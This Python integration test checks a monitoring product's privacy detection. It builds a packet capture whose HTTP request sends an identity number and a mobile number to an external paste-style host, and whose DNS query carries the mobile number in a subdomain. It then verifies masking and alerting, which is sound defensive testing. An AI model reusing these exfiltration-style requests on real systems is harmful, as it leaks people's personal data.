"""A capture with personal information in a clear-text HTTP request and in a DNS query to the
internet: imported through the sensor, masked at ingest, and the own Sigma rule raises alerts
whose copies and exports hold no clear identity number (nor, for display, the kept mobile)."""

from __future__ import annotations

import json
import time
from pathlib import Path

from scapy.all import DNS, DNSQR, IP, TCP, UDP, Ether, wrpcap

from collectors.network.service import import_pcaps
from core.alerting import alerts_index
from core.auditing import Actor, MemoryAuditor
from core.es import Store
from core.settings import Settings
from detections.runner import RunnerConfig, run_cycle
from detections.service import import_own_rules
from detections.triage import alerts as triage
from tests.integration.privacy.test_never_in_clear import RIC

MOBILE = "13812345678"
RULE = "3f0f6d9e-6a57-4c0e-9a43-6f1d2b8e1a20"
CLI = Actor("cli:test", "cli")


def _capture(path: Path) -> None:
    client, server = "10.10.20.88", "45.77.10.23"
    eth = Ether(src="02:00:00:00:00:01", dst="02:00:00:00:00:02")
    req = f"GET /collect?sfz={RIC}&tel={MOBILE} HTTP/1.1\r\nHost: paste.example.net\r\n\r\n".encode()
    resp = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
    packets = [
        eth / IP(src=client, dst=server) / TCP(sport=40001, dport=80, flags="S", seq=1000),
        eth / IP(src=server, dst=client) / TCP(sport=80, dport=40001, flags="SA", seq=5000, ack=1001),
        eth / IP(src=client, dst=server) / TCP(sport=40001, dport=80, flags="A", seq=1001, ack=5001),
        eth / IP(src=client, dst=server) / TCP(sport=40001, dport=80, flags="PA", seq=1001, ack=5001) / req,
        eth / IP(src=server, dst=client) / TCP(sport=80, dport=40001, flags="PA", seq=5001, ack=1001 + len(req)) / resp,
        eth / IP(src=client, dst="8.8.8.8") / UDP(sport=53001, dport=53)
        / DNS(id=7, rd=1, qd=DNSQR(qname=f"{MOBILE}.q.leak-example.net", qtype="A")),
        # the same kinds of request inside the network: no alert
        eth / IP(src=client, dst="10.10.1.53") / UDP(sport=53002, dport=53)
        / DNS(id=8, rd=1, qd=DNSQR(qname=f"{MOBILE}.corp.internal", qtype="A")),
    ]
    start = time.time() - 60
    for i, p in enumerate(packets):
        p.time = start + i * 0.01
    wrpcap(str(path), packets)


def test_clear_text_pii_in_http_and_dns_capture_raises_alerts(settings: Settings, store: Store, prefix: str,
                                                              tmp_path: Path) -> None:
    pcap = tmp_path / "leak.pcap"
    _capture(pcap)
    summary = import_pcaps(settings, store, [pcap])
    assert summary.failed == 0 and summary.shipped >= 4
    store.refresh(f"{prefix}-events-*")
    http = store.search(f"{prefix}-events-network.http", {"query": {"match_all": {}}})["hits"]["hits"]
    assert len(http) == 1 and RIC not in json.dumps(http[0]["_source"])
    assert http[0]["_source"]["url"]["query"] == f"sfz=110105********002X&tel={MOBILE}"
    assert http[0]["_source"]["pii"]["types"] == ["cn_mobile", "cn_ric"]

    import_own_rules(store, prefix, actor=CLI, auditor=MemoryAuditor())
    cfg = RunnerConfig(prefix=prefix, worker_id="pii-test", settle_seconds=0, partitions=4,
                       initial_lookback_seconds=3600, lease_seconds=30)
    result = run_cycle(store, cfg, force=True)
    assert result.errors == 0, [r for r in result.results if r.error]
    store.refresh(alerts_index(prefix))
    hits = store.search(alerts_index(prefix), {"query": {"term": {"rule.id": RULE}}, "size": 10})["hits"]["hits"]
    # one alert for the HTTP request to 45.77.10.23, one for the DNS query to 8.8.8.8; none internal
    assert sorted(h["_source"]["event_copy"]["destination"]["ip"] for h in hits) == ["45.77.10.23", "8.8.8.8"]
    for h in hits:
        assert RIC not in json.dumps(h["_source"], ensure_ascii=False)          # the stored alert copy
    analyst = Actor("ana", "analyst")
    detail = triage.get_alert(store, settings, hits[0]["_id"], actor=analyst)
    exported = triage.export_alerts(store, settings, MemoryAuditor(), actor=analyst)
    assert len(exported) >= 2
    for shown in (detail, exported):
        text = json.dumps(shown, ensure_ascii=False)
        assert RIC not in text and MOBILE not in text                        # masked for display too
    assert "138****5678" in json.dumps(detail, ensure_ascii=False)
